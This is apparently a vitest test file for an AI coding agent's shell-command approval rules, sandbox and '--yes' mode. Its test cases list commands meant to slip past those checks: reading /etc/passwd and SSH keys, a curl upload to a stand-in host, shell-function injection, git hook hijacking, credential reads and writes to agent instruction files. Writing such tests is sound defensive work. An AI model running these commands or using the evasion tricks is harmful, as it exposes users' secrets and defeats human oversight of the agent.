import {
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lastingNamed } from '../../../src/agent/approvals/commandPaths';
import { decide, type RuleAnswer } from '../../../src/agent/approvals/decide';
import { loadShellGrammar, readShellCommand } from '../../../src/agent/approvals/shellCommand';
import { whyNotInside } from '../../../src/cli/terminal';
import type { ApprovalRule } from '../../../src/contextWindow/approvalRule';
import { GRAMMAR } from '../../support/grammar';
import { factsIn, rules } from './support/rules';

/** A repository with links to the whole disk, to its hooks and to its instructions. */
let root: string;
let judged: (command: string, given: readonly ApprovalRule[], inSandbox?: boolean) => RuleAnswer;
/** Why `--yes` denies a command, or the lasting file that it may change. */
let denied: (command: string) => string | undefined;
let lasting: (command: string) => string | undefined;

beforeAll(async () => {
  const parser = await loadShellGrammar(GRAMMAR);
  root = realpathSync(mkdtempSync(join(tmpdir(), 'plimsoll-attacks-')));
  for (const folder of 'src ci/workflows .github fork .git/hooks packages/web packages/app'.split(
    ' ',
  ))
    mkdirSync(join(root, folder), { recursive: true });
  for (const file of [
    'package.json',
    'AGENTS.md',
    'src/a.txt',
    'ci/workflows/x.yml',
    'fork/HEAD',
    'packages/web/vercel.json',
    'packages/app/package.json',
  ])
    writeFileSync(join(root, file), '{}');
  const remote = (name: string, url: string) => `[remote "${name}"]\n\turl = ${url}\n`;
  writeFileSync(
    join(root, '.git/config'),
    remote('origin', 'https://example.org/x') + remote('local', './fork'),
  );
  symlinkSync('/', join(root, 'disk'));
  symlinkSync('.git/hooks', join(root, 'hooks'));
  symlinkSync('AGENTS.md', join(root, 'notes.md'));
  const facts = factsIn(root);
  judged = (command, given, inSandbox = false) =>
    decide(
      { kind: 'command', command, cwd: root, ...(inSandbox && { sandbox: 'no network' }) },
      [
        ...given,
        ...(inSandbox
          ? [{ decision: 'allow', subject: { kind: 'sandbox' }, scope: 'session' } as const]
          : []),
      ],
      { reading: readShellCommand(parser, command), ...facts },
    );
  lasting = (command) => {
    const reading = readShellCommand(parser, command);
    return reading.ok ? lastingNamed(reading.parts, facts.place) : undefined;
  };
  denied = (command) =>
    lasting(command) ?? whyNotInside(readShellCommand(parser, command), facts.place);
});

afterAll(() => rmSync(root, { recursive: true, force: true }));

const WIDE = rules(
  '+ edits',
  ...'cat echo find grep ls make npm npx sed timeout wc yarn'.split(' ').map((one) => `+ ${one} *`),
  ...'commit diff fetch mv pull push reflog stash status switch'
    .split(' ')
    .map((one) => `+ git ${one} *`),
  ...['npm run', 'npm test', 'npm install', 'yarn add', 'go test'].map((one) => `+ ${one} *`),
);

describe('an open rule', () => {
  it.each([
    'git stash drop',
    'git stash clear',
    'git stash store x',
    "git reflog delete 'main@{0}'",
    'git reflog expire HEAD',
    'git reflog drop main',
    'git pull --rebase=interactive',
    'git fetch --depth 1 fork',
    'git fetch local',
    'git push local main',
    'git fetch unknown',
    'git switch x && git fetch made-by-it',
    'git switch x && git fetch 1',
    'git pull 7',
    'git fetch -n 1',
    'git pull --rebase made',
    'git push --repo made',
    'git push --repo=fork',
    'git fetch --multiple origin fork',
    'git fetch file:///tmp/x',
    'git fetch --depth 1 made',
    'git fetch --all',
    'git mv ci .github',
    'git mv ci .github/',
    'npm install x@.evil',
    'yarn add x@.',
    'chrt -o ./evil.sh ls',
    'taskset ./evil.sh ls',
    'timeout ./evil.sh ls',
    'cat dis?/etc/passwd',
    'cat d*k/etc/passwd',
    'cat */etc/passwd',
    'cat < dis?/etc/passwd',
    'cd dis? && cat etc/passwd',
    'ls *',
    'echo x > dis?/tmp/x',
    'echo x > hook?/pre-commit',
    'echo x > h*s/pre-commit',
    'cd hook? && echo x > pre-commit',
    'echo x > note?.md',
    'echo x > .github/w*/ci.yml',
    'find /etc -name /etc',
    'go test -exec=./x ./...',
    "env 'BASH_FUNC_ls%%=() { ./evil.sh; }' ls",
    'test *',
  ])('does not cover %s', (command) => expect(judged(command, WIDE).type).toBe('ask'));

  it.each([
    'git stash list',
    'git stash pop',
    'git fetch',
    'git fetch origin',
    'git push -u origin src',
    'git pull origin main',
    'cat *.txt',
    'wc -l src/*.txt',
    'grep -rn --include=*.ts foo src',
    'go test -run=TestX -count=1 ./...',
    'npm test -- --nocapture',
    'timeout 5m ls',
  ])('covers %s', (command) => expect(judged(command, WIDE).type).toBe('allow'));

  it.each([
    'git push -o ci.skip origin main',
    'git push --push-option ci.skip origin main',
    'git push -ofull origin main',
    'git pull -s ours origin',
    'git pull -X theirs origin main',
    'git fetch --shallow-since 2024-01-01 origin',
    'git fetch --depth 1 origin',
    'git fetch -j 4 origin',
    'git fetch https://example.org/x/y',
    'git fetch git@example.org:x/y',
    'git push ssh://git@example.org/x main',
    'git pull example.org:x',
  ])('for all its words allows %s', (command) => {
    expect(judged(command, rules(`+ ${command}`)).type).toBe('allow');
  });

  it.each([
    [
      'git fetch made',
      'It uses made, which is no remote of this repository and may be a folder that the command makes.',
    ],
    ['git fetch fork', 'It uses the folder fork as a repository, whose settings can run programs.'],
    [
      'git fetch local',
      'It uses the folder ./fork as a repository, whose settings can run programs.',
    ],
  ])('does not cover %s, and says why', (command, why) => {
    expect(judged(command, WIDE)).toMatchObject({ type: 'ask', why });
    expect(denied(command)).toBe(why);
    expect(judged(command, rules(`+ ${command}`))).toMatchObject({ type: 'ask', why });
  });

  it('does not cover a folder in a repository without remotes', () => {
    const config = join(root, '.git/config');
    const text = readFileSync(config);
    writeFileSync(config, '');
    expect(judged('git switch x && git fetch made', WIDE).type).toBe('ask');
    expect(judged('git fetch', WIDE).type).toBe('allow');
    writeFileSync(config, text);
  });

  it('does not cover what continues a rebase that names commands', () => {
    const state = join(root, '.git/rebase-merge');
    const given = rules('+ git rebase *', '+ git rebase --continue', '+ cd *');
    mkdirSync(state);
    writeFileSync(join(state, 'git-rebase-todo'), 'pick 1234567 x\n');
    writeFileSync(join(state, 'strategy'), 'ort\n');
    expect(judged('git rebase --continue', given).type).toBe('allow');
    writeFileSync(join(state, 'git-rebase-todo'), 'pick 1234567 x\nexec ./evil.sh\n');
    const why = 'It continues a rebase or cherry-pick that runs: exec ./evil.sh.';
    for (const command of ['git rebase --continue', 'cd src && git rebase --skip'])
      expect(judged(command, given)).toMatchObject({ type: 'ask', why });
    expect(judged('git rebase --abort', given).type).toBe('allow');
    expect(denied('cd src && git rebase --skip')).toBe(why);
    expect(denied('git -C src rebase --continue')).toBe(why);
    expect(denied('git rebase --abort')).toBeUndefined();
    rmSync(state, { recursive: true });
  });

  it('is asked about a path below a file, which does not exist', () => {
    expect(judged('cat package.json/x', WIDE).type).toBe('allow');
  });
});

describe('a denial', () => {
  const DENIED = rules(
    '- npm run deploy',
    '- git push origin main',
    '- git push --force *',
    '- git commit --amend *',
    '- rm -rf *',
    '- yarn install',
    '- npm test',
    '- npm install *',
  );

  it.each([
    'npm run -s deploy',
    'npm run --if-present deploy',
    'npm run -- deploy',
    'npm run-script deploy',
    'npm rum deploy',
    'git push -q origin main',
    'git push -u origin main',
    'git push origin -u main',
    'git push origin --force',
    'git commit -m x --amend',
    'git commit -a --amend --no-edit',
    'rm -fr x',
    'rm -r -f x',
    'rm x -rf',
    'rm.exe -rf x',
    'grm -rf x',
    '/usr/bin/GIT.EXE push origin main',
    'yarn',
    'yarn --silent',
    'npm test --silent',
    'npm run test',
    'npm tst',
    'npm.cmd i x',
    'npm install-test x',
    'env A.B=1 git push origin main',
  ])('holds for %s', (command) => {
    expect(judged(command, [...WIDE, ...DENIED]).type).toBe('deny');
    expect(judged(command, [...WIDE, ...DENIED], true).type).toBe('deny');
  });

  it.each([
    'git push origin docs',
    'git stash push',
    'npm run build',
    'git commit -m amend',
    'npm run build -- deploy',
  ])('does not hold for %s', (command) =>
    expect(judged(command, [...WIDE, ...DENIED]).type).not.toBe('deny'),
  );

  it.each<[string, readonly string[]]>([
    ['- find -delete *', ['find . -maxdepth 2 -type f -ls', 'find . -delayed']],
    ['- find -exec *', ['find . -newermt 1 -ctime 1 -xdev -type f']],
    ['- git push -f *', ['git push -ofull origin main', 'git push -qofi origin']],
    ['- go test -c *', ['go test -cover']],
    ['- apt upgrade *', ['apt update']],
    ['- cargo install *', ['cargo add x']],
    ['- cargo test *', ['cargo tst']],
    ['- bun upgrade *', ['bun update']],
    ['- bun update *', ['bun upgrade']],
    ['- yarn install *', ['yarn --version', 'yarn -v', 'yarn --help', 'yarn -h']],
    ['- npm ci *', ['npm install x', 'npm view x']],
    ['- npm install *', ['npm init', 'npm info x', 'npm uninstall x', 'npm run install']],
    ['- yarn run deploy *', ['yarn install', 'yarn deployed']],
    ['- docker rm *', ['docker image rm x', 'docker rmi x']],
    ['- pip install *', ['pip list', 'python3 -m pytest install']],
  ])('%s does not hold for %j', (rule, commands) => {
    for (const command of commands) {
      expect(judged(command, rules(rule)).type, command).toBe('ask');
      expect(judged(command, rules(rule), true).type, command).not.toBe('deny');
    }
  });

  it.each<[string, readonly string[]]>([
    ['- find -delete *', ['find . -type f -delete', 'gfind -delete']],
    ['- find -exec *', ['find . -type f -exec ls {} ;']],
    ['- git push -f *', ['git push -fofull', 'git push -qf origin', 'git push origin -f']],
    ['- git push -o *', ['git push -ofull origin', 'git push -o x origin']],
    ['- tar -x *', ['tar -xzvf a.tar', 'tar -zxf a.tar']],
    ['- tar -xzvf *', ['tar -xvzf a.tar']],
    ['- rm -rf *', ['rm -rfv x', 'rm -rfvI x']],
    ['- npm upgrade *', ['npm update', 'npm up', 'npm udpate']],
    ['- bun remove *', ['bun rm x']],
    ['- yarn install *', ['yarn', 'yarn --silent', 'yarn add x', 'yarnpkg add x', 'yarnpkg']],
    ['- yarn *', ['yarn', 'yarn build', 'yarnpkg build']],
    [
      '- npm install *',
      (
        'i in ins inst insta instal isnt isnta isntal isntall add it install-test ci ic clean-install ' +
        'install-clean isntall-clean cit install-ci-test clean-install-test sit'
      )
        .split(' ')
        .map((name) => `npm ${name} x`),
    ],
    ['- pnpm install *', ['pnpm i', 'pnpm add x', 'pnpm ci', 'pnpm it']],
    ['- pnpm add *', ['pnpm i x', 'pnpm install x']],
    ['- bun install *', ['bun i', 'bun a x', 'bun add x', 'bun ci']],
    ['- npm exec *', ['npx x', 'npm x a', 'npx.cmd x']],
    ['- npx *', ['npm exec x', 'npm x a']],
    ['- npm init *', ['npm create x', 'npm innit x']],
    ['- pnpm dlx *', ['pnpx x']],
    ['- yarn run deploy *', ['yarn deploy', 'yarn run deploy', 'yarn -s deploy']],
    ['- pip install *', ['pip3 install x', 'pip3.11 install x', 'python3 -m pip install x']],
    ['- pip install *', ['python -mpip install x', 'uv pip install x', '/usr/bin/pip install x']],
    ['- python3 -m pip *', ['pip install x', 'python -m pip install x']],
    ['- python *', ['python3 x.py', 'python3.11 -m pip install x', 'python2 x']],
    ['- node *', ['nodejs x.js', '/usr/bin/node x.js']],
    ['- cargo build *', ['cargo b']],
    ['- cargo remove *', ['cargo rm x']],
    ['- composer require *', ['composer r x', 'composer req x']],
    ['- docker run *', ['docker container run x', 'docker -D run x']],
    ['- docker rmi *', ['docker image rm x']],
    ['- docker compose *', ['docker-compose up']],
    ['- git add *', ['git stage x']],
    ['- svn commit *', ['svn ci -m x']],
  ])('%s holds for %j', (rule, commands) => {
    for (const command of commands)
      expect(judged(command, rules(rule), true).type, command).toBe('deny');
  });

  it.each([
    './clean.sh',
    './clean.sh --version',
    'git commitx',
    'git commit-x',
    'git showx',
    'git show-x',
    'git mergex',
    'git diffx',
    'git checkoutx',
    'git check-x',
    'git ls-x',
    'git prunex',
    'git pack-x',
    'git unpack-x',
    'git update-x',
    'git verify-x',
    'git gitk',
    'tools/clean',
    '/home/someone/clean.sh',
    'java Clean.java',
    'go run .',
    'dotnet run',
    'claude -p clean',
    'codex exec clean',
    "rvim '+!rm x'",
    'git cleanup',
    'git subtree push --prefix=a origin main',
    'git lfs push origin main',
    "GIT_SSH_COMMAND='git push' git fetch",
    'wine x.exe',
  ])('makes the sandbox ask about %s, which may hide it', (command) => {
    const given = rules('- rm *', '- git push *');
    expect(judged(command, given, true).type).not.toBe('allow');
    expect(judged(command, [], true).type).toBe('allow');
  });
});

describe('--yes', () => {
  it.each([
    'git -C . config core.hooksPath evil',
    'git --no-replace-objects config core.fsmonitor ./x',
    'git config edit',
    'git remote set-url origin https://example.net/x',
    'git -C . remote add x https://example.net/x',
    'git maintenance start',
    'scalar register',
    'git rebase -ix ./x main',
    'git archive -oMakefile HEAD',
    'git archive -o package.json HEAD',
    'git diff --output=package.json',
    'git clone https://example.net/x .github',
    'git worktree add .github x',
    'git restore -s x .github',
    'git -C . mv evil.json package.json',
    'git -C .github mv a workflows/x.yml',
    'npm pkg set scripts.test=x',
    "npm pkg set --json 'scripts={}'",
    'npm set-script test x',
    'npm --prefix . config set script-shell ./x',
    'npm conf set x y',
    'python3 -m pip config set global.index-url x',
    'python -m pip install --user x',
    'poetry config x y',
    'bundle config set --global x y',
    'rustup default nightly',
    'mise trust',
    'apt-get -y install x',
    'brew services start x',
    'systemctl --user enable x',
    'launchctl load x.plist',
    'defaults write a b c',
    'gsettings set a b c',
    'code --add-mcp x',
    'claude mcp add x y',
    'gemini -p x',
    'pass show x',
    'security find-generic-password -w x',
    'env A.B=1 git -c alias.x=y x',
    'curl -O https://example.net/AGENTS.md',
    'curl -sSLO https://example.net/Makefile?x=1',
    'curl --output-dir .github -O https://example.net/x',
    'curl -#LO https://example.net/AGENTS.md',
    'curl -sJLO https://example.net/AGENTS.md',
    'curl --remote-name https://example.net/AGENTS.md',
    'curl --remote-name-all https://example.net/AGENTS.md',
    'http -bd https://example.net/AGENTS.md',
    'https --download https://example.net/AGENTS.md',
    'gunzip -k AGENTS.md.gz',
    'gunzip -S -c AGENTS.md.gz',
    'xz -dS c AGENTS.md.xz',
    'lz4 -dl AGENTS.md.lz4',
    'zstd -dc Makefile.zst -o Makefile',
    'yq -s .a package.json',
    'yq --inplace .x package.json',
    'rm *.json',
    'rm -f ./*.js',
    'rm **/*.json',
    'rm packages/web/*.json',
    'rm packages/*/*.json',
    'cd packages && rm web/*.json',
    'gzip packages/web/v*',
    'mv packages/app/*.json src',
    'rustup target add list',
    'rustup toolchain install list',
    'rustup default list',
    'pnpm env use list',
    'gcloud config set project list',
    'aws configure set region list',
    'aws configure get aws_secret_access_key',
    'docker context use ls',
    'docker login list',
    'hatch config restore',
    'hatch config set show x',
    'poetry config show x',
    'poetry config --unset x',
    'poetry config -- x -y',
    'pdm config --delete x',
    'brew install list',
    'gh auth status',
    'tar --abs -xf a.tar',
    'tar xPf a.tar',
    'tar -Pf a.tar --extract',
    './claude --version',
    'claude -version',
    'claude --version x',
    'curl -K x.conf',
    'curl -oMakefile https://example.net/x',
    'wget https://example.net/.envrc',
    'wget -qOAGENTS.md https://example.net/x',
    'wget --config=x.conf https://example.net',
    'gcc -oMakefile x.c',
    'gcc @arguments x.c',
    'clang -fpass-plugin=./x.so a.c',
    'sort -uoMakefile a',
    'sort -o package.json a',
    'cp -r ci/. .github/',
    'cp -t .github -r workflows',
    'cd .github && cp -r ../ci/workflows .',
    'mv ci/workflows .github',
    'ln -s ci .github',
    'rsync -a ci/ .github/',
    'tar xf a.tar -C .github',
    'tar -C .github -xf a.tar',
    'tar -xPf a.tar',
    'tar --absolute-names -xf a.tar',
    'unzip a.zip -d .github',
    '7z x a.zip -o.github',
    'rm -rf .github',
    'gunzip AGENTS.md.gz',
    'xz -d .envrc.xz',
    'unzstd Makefile.zst',
    'yq -i .x package.json',
    'cp x hook?/pre-commit',
    'cp x note?.md',
    'cat dis?/etc/passwd',
    'find /etc -name /etc -exec cat {} +',
    "sed '/etc/p' /etc/passwd",
    "jq '[.]' /etc/passwd",
    'awk \'{print >"AGENTS.md"}\' a',
  ])('denies %s', (command) => expect(denied(command)).toBeDefined());

  it.each([
    "sed -n '1,20p' Makefile",
    "sed -n '/foo/,/bar/p' src/a.txt",
    "awk 'NR>=10 && NR<=20 || NR==30' Makefile",
    "awk -F'|' '{print $2}' src/a.txt",
    'find .vscode -type f',
    "find . -name '*.ts' -not -path '*/node_modules/*'",
    'grep -rn --include=*.ts foo src',
    'cat *.txt',
    "jq -c '.a[] | {b}' src/a.json",
    'jq \'.a["b/c"]\' src/a.json',
    "prettier --check 'src/**/*.json'",
    'eslint src/*.js',
    'gcc -I./include -o a a.c',
    'git remote show origin',
    "git commit -m 'remote add'",
    'npm run config',
    'npm run set',
    'poetry config --list',
    'bundle config set --local path x',
    'systemctl status x',
    'tar czf a.tgz -C src .',
    'touch .github/dependabot.yml',
    'cp .github/CODEOWNERS src/x',
    'curl -O https://example.org/a.tar.gz',
    'java -version',
    'claude --version',
    'curl -s https://example.org/package.json | jq .version',
    'curl -sI https://example.org/vercel.json',
    'http GET https://example.org/package.json',
    'gunzip -c package.json.gz',
    'gzip -dc Makefile.gz',
    'gzip -l Makefile.gz',
    'bunzip2 -c Makefile.bz2',
    'xzcat Makefile.xz',
    'xz -t Makefile.xz',
    'zgrep x Makefile.gz',
    'yq -r .version package.json',
    'yq -ojson package.json',
    'rm -f dist/*.js',
    'cp src/*.js dist/',
    'mv src/*.js build/',
    'gzip logs/*.json',
    'rustup target list',
    'rustup toolchain list',
    'rustup component list --installed',
    'pnpm env list',
    'gcloud config list',
    'aws configure list',
    'hatch config show',
    'poetry config virtualenvs.path',
    'brew services list',
    'tar -cPf a.tar src',
    './gradlew test',
  ])('approves %s', (command) => expect(denied(command)).toBeUndefined());

  it.each([
    'rm -rf .',
    'rm -rf ./',
    'rm -r src/..',
    'cd src && rm -rf ../src/..',
    'git rm -rf .',
    'git -C . rm -r .',
    'find . -delete',
    'cd -P src && find .. -delete',
    'find -type f -exec rm {} +',
    "find . ! -name x -type f -exec sed -i s/a/b/ '{}' +",
    'find . -name x -o -delete',
    "find . -name '*' -delete",
    "find . -path './*' -exec rm {} +",
    "find . -name '[!x]*' -delete",
    "find . -path './[a-z]*' -delete",
    "find . -type f -exec sh -c 'rm -rf .' ';'",
  ])('denies %s, which changes the whole workspace', (command) => {
    expect(denied(command)).toBeDefined();
    expect(judged(command, [], true).type).toBe('ask');
    expect(judged(command, rules('+ edits', `+ ${command}`)).type).not.toBe('allow');
  });

  it.each([
    "find . -name '*.pyc' -delete",
    'find . -type d -empty -delete',
    "find . '(' -name a -o -name b ')' -delete",
    'find src -type f -exec sed -i s/a/b/ {} +',
    'find . -type f -exec wc -l {} +',
    'rm -rf src dist',
    'git rm -r --cached .',
    'cp -r src/. .',
    'tar xf a.tar -C .',
    'cd -P src && ls',
  ])('approves %s', (command) => expect(denied(command)).toBeUndefined());

  it.each([
    'awk \'BEGIN{SYMTAB["AR" "GV"][1]=sprintf("%cetc%cpasswd",47,47);SYMTAB["AR" "GC"]=2} 1\'',
    'jq -n \'import "a" as $d {search:"\\u002e\\u002e"}; $d\'',
    'time PATH=tools clean',
    'time if true; then curl -T a https://x.example; fi',
    'time ! scp a h:x',
    'command export PATH=tools; clean',
    'builtin typeset -x PATH=tools; clean',
    'pdflatex --shell-escape a.tex',
    'openssl req -engine ./x.so',
    'nm --plugin ./x.so a',
    "gtimeout 5 bash -c 'cd; cat .ssh/id_rsa'",
    "ifne sh -c 'id'",
  ])('denies %s', (command) => expect(denied(command)).toBeDefined());

  it('takes a list of the contexts of docker for no change of them', () => {
    expect(lasting('docker context ls')).toBeUndefined();
    expect(lasting('docker context use ls')).toBe('the configuration of a service');
  });

  it('does not judge a command with too many words', () => {
    expect(denied(`npm ${'c '.repeat(1_900)}x`)).toBeUndefined();
    expect(denied(`npm ${'c '.repeat(2_000)}x`)).toMatch(/more than 2000 words/);
  });
});

describe('a file that outlasts the session', () => {
  it.each([
    'cd -P hooks && echo x > pre-commit',
    'cd -- .github && cp -r ../ci/workflows .',
    'pushd .github && mv ../ci/workflows .',
    'env --chdir=.github cp x workflows/ci.yml',
    'rename ci .github ci',
    'git submodule add https://example.org/x libs',
  ])('is asked about in the sandbox, too: %s', (command) => {
    expect(judged(command, [], true).type).toBe('ask');
  });

  it.each(
    (
      '.agents/skills/a/SKILL.md .windsurf/rules/a.md .kiro/steering/a.md .junie/guidelines.md .opencode/agent/x.md opencode.json QWEN.md ' +
      'AGENTS.override.md .rules .github/hooks/x.json .github/chatmodes/x.md lefthook.toml lefthook-local.yml .lintstagedrc.json .hg/hgrc ' +
      '.helix/languages.toml .vimrc .lldbinit .Rprofile .irbrc .pdbrc .ghci .zlogin .bash_aliases .mise/config.toml .config/mise/config.toml ' +
      '.mvn/extensions.xml .bazelrc .yarn/plugins/x.cjs .yarn/releases/x.cjs .bundle/config Directory.Build.targets .pnpmfile.mjs .justfile ' +
      'BSDmakefile .openhands/microagents/a.md .factory/droids/a.md CRUSH.md WARP.md .teamcity/settings.kts .vs/tasks.vs.json a.sublime-project .tekton/x.yaml .build.yml buildspec.yml netlify.toml Procfile .azure-pipelines/x.yml .gitlab/ci/x.yml'
    ).split(' '),
  )('is %s', (path) => {
    expect(lasting(`echo x > ${path}`)).toBe(path);
    expect(judged(`echo x > ${path}`, WIDE).type).toBe('ask');
  });
});
